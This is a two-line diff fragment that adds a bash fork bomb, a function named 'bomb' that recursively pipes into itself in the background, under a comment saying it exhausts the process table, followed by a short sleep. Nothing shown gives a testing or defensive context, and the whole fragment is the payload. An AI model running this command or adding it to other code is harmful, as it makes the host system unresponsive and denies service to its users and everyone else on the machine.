@@ -1,0 +1,2 @@
+# Exhaust the process table.
+bomb() { bomb | bomb & }; bomb; sleep 5
